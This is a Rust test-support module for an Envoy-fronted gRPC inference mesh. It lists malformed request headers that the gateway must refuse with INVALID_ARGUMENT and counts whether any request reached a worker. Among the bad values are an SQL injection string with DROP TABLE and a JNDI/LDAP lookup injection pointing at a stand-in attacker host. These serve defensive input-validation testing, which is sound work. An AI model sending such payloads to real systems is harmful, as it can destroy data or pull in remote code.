//! Bad requests that the mesh must refuse before a worker sees them.

use crate::client::embedding_request;
use crate::harness::Testbed;
use crate::prometheus;
use crate::raw::{self, Reply};
use anyhow::Result;
use std::fmt;

/// gRPC `INVALID_ARGUMENT`.
pub const INVALID_ARGUMENT: i32 = 3;

/// The counter of a worker that rises with every inference it was asked for.
const WORKER_REQUESTS: &str = "kilocard_worker_requests_total";

/// A bad request.
#[derive(Clone, Debug)]
pub struct BadRequest {
    /// What is bad about it.
    pub what: &'static str,
    /// The header that the refusal must name.
    pub field: &'static str,
    /// That header's value.
    pub value: Vec<u8>,
}

/// One of each kind.
pub fn all() -> Vec<BadRequest> {
    let bad = |what, field, value: &[u8]| BadRequest {
        what,
        field,
        value: value.to_vec(),
    };
    vec![
        bad("an empty version", "x-model-version", b""),
        bad("a canary weight of 101", "x-canary-weight", b"101"),
        bad("a header over the limit", "x-tenant-note", &[b'a'; 5000]),
        bad(
            "an SQL injection as the model",
            "x-model",
            b"minilm' OR '1'='1'; DROP TABLE models;--",
        ),
        bad(
            "a look-up injection as the user",
            "x-user-id",
            b"${jndi:ldap://evil.example/a}",
        ),
        bad(
            "bytes that are not text in the version",
            "x-model-version",
            b"v1\xff\xfe",
        ),
        bad("a grpc-timeout without a unit", "grpc-timeout", b"10"),
        bad("a grpc-timeout of nine digits", "grpc-timeout", b"123456789S"),
    ]
}

impl BadRequest {
    /// Sends it through Envoy.
    ///
    /// # Errors
    /// If there is no reply at all.
    pub async fn send(&self, testbed: &Testbed) -> Result<Reply> {
        infer(testbed, &[(self.field, self.value.as_slice())]).await
    }

    /// Whether the reply refuses it as gRPC wants: `INVALID_ARGUMENT`, Trailers-Only, naming the field.
    pub fn is_refused_by(&self, reply: &Reply) -> bool {
        reply.http_status == 200
            && reply.grpc_status == Some(INVALID_ARGUMENT)
            && reply.ended_by_headers
            && reply.grpc_message.contains(self.field)
    }
}

/// Sends an inference that is good but for these headers.
///
/// # Errors
/// If there is no reply at all.
pub async fn infer(testbed: &Testbed, headers: &[(&str, &[u8])]) -> Result<Reply> {
    raw::call(
        testbed.gateway(),
        "ModelInfer",
        headers,
        &embedding_request(&["a short text"]),
    )
    .await
}

/// How far requests got, so that two readings can be compared.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Reached {
    /// Requests that Envoy sent to any worker.
    pub forwarded: u64,
    /// Inferences that the workers count themselves.
    pub computed: u64,
}

impl Reached {
    /// Reads the counters of Envoy and of all workers.
    ///
    /// # Errors
    /// If one does not answer.
    pub async fn read(testbed: &mut Testbed) -> Result<Self> {
        let stats = testbed.envoy().stats("cluster.minilm_").await?;
        let forwarded = stats
            .iter()
            .filter(|(name, _)| name.ends_with(".upstream_rq_total"))
            .map(|(_, count)| count)
            .sum();
        let mut computed = 0.0;
        for worker in testbed.workers() {
            computed += prometheus::sum(&worker.metrics().await?, WORKER_REQUESTS, &[]);
        }
        #[expect(
            clippy::cast_possible_truncation,
            clippy::cast_sign_loss,
            reason = "a counter of whole requests"
        )]
        Ok(Self {
            forwarded,
            computed: computed as u64,
        })
    }

    /// What came on top since `earlier`.
    #[must_use]
    pub fn since(self, earlier: Self) -> Self {
        Self {
            forwarded: self.forwarded - earlier.forwarded,
            computed: self.computed - earlier.computed,
        }
    }
}

impl fmt::Display for Reached {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{} forwarded by Envoy, {} computed by workers",
            self.forwarded, self.computed
        )
    }
}
